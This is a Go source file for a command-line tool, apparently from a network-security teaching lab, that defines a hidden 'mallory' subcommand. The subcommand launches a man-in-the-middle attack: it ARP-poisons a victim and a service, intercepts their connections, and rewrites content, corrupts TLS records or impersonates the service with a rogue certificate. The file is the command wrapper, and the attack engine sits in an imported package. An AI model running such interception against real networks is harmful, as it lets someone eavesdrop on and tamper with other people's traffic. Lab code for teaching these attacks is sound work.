package main

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/signal"
	"sync"
	"syscall"
	"time"

	"github.com/spf13/cobra"
	"github.com/ztlab/zt-lab/mallory"
)

// newMalloryCmd is the attacker the tampering scene starts on its host:
// hidden, since a learner meets it through the scene.
func newMalloryCmd() *cobra.Command {
	var (
		victim, service, iface, mode, probe string
		port                                uint16
		every                               time.Duration
	)
	cmd := &cobra.Command{
		Use:    "mallory",
		Short:  "The man in the middle: poison ARP between two hosts and rewrite the fortune",
		Hidden: true,
		Long: "Run on the attacker host of a lab: tells VICTIM that SERVICE is at this host's\n" +
			"MAC and SERVICE that VICTIM is, takes VICTIM's connections to SERVICE:PORT and\n" +
			"relays them with the fortune rewritten, forwards everything else, and puts\n" +
			"both ARP caches right again on Ctrl-C or SIGTERM. One line per event on stdout.",
		Example: "  zt-lab mallory --victim fcc00 --service fcs00",
		Args:    noArgs,
		RunE: func(cmd *cobra.Command, _ []string) error {
			ctx, stop := signal.NotifyContext(cmd.Context(), os.Interrupt, syscall.SIGTERM)
			defer stop()
			if probe != "" {
				if err := mallory.Probe(ctx, probe); err != nil {
					fmt.Fprintf(cmd.OutOrStdout(), "probe %s refused: %v\n", probe, err)
					return nil
				}
				fmt.Fprintf(cmd.OutOrStdout(), "probe %s accepted\n", probe)
				return nil
			}
			switch mode {
			case mallory.ModeRewrite, mallory.ModeFlip, mallory.ModeImpersonate:
			default:
				return usagef("--mode %s: use rewrite, flip or impersonate", mode)
			}
			v, err := lookupAddr(ctx, "--victim", victim)
			if err != nil {
				return err
			}
			s, err := lookupAddr(ctx, "--service", service)
			if err != nil {
				return err
			}
			if v == s {
				return usagef("--victim and --service are both %s: give two hosts", v)
			}
			out := cmd.OutOrStdout()
			var mu sync.Mutex
			a := &mallory.Attack{Iface: iface, Victim: v, Service: s, Port: port, Every: every, Mode: mode,
				Logf: func(format string, args ...any) {
					mu.Lock()
					defer mu.Unlock()
					fmt.Fprintf(out, format+"\n", args...)
				}}
			return a.Run(ctx)
		},
	}
	f := cmd.Flags()
	f.StringVar(&victim, "victim", "fcc00", "the consumer to fool, a lab `HOST` or an IPv4 address")
	f.StringVar(&service, "service", "fcs00", "the service to stand in for, a lab `HOST` or an IPv4 address")
	f.StringVar(&iface, "iface", "", "the `INTERFACE` on the wire (default: the one in the victim's subnet)")
	f.Uint16Var(&port, "port", 8181, "the service's TCP `PORT`")
	f.StringVar(&mode, "mode", mallory.ModeRewrite, "`MODE`: rewrite (plaintext: change the fortune), flip (TLS: change a byte of every record) or impersonate (TLS: answer with a certificate of mallory's own)")
	f.StringVar(&probe, "probe", "", "only connect to `ADDR` over TLS with a certificate of mallory's own, and say whether it was let in")
	f.DurationVar(&every, "every", time.Second, "poison the caches again this often")
	return cmd
}

// lookupAddr is a lab host's IPv4 address, or the address given.
func lookupAddr(ctx context.Context, flag, s string) (netip.Addr, error) {
	if a, err := netip.ParseAddr(s); err == nil {
		if !a.Is4() {
			return netip.Addr{}, usagef("%s %s: IPv4 only, e.g. %s 198.18.0.30", flag, s, flag)
		}
		return a, nil
	}
	addrs, err := net.DefaultResolver.LookupNetIP(ctx, "ip4", s)
	if err != nil || len(addrs) == 0 {
		return netip.Addr{}, usagef("%s %s: no such host in this lab: give a lab host name (fcc00) or an IPv4 address", flag, s)
	}
	return addrs[0], nil
}
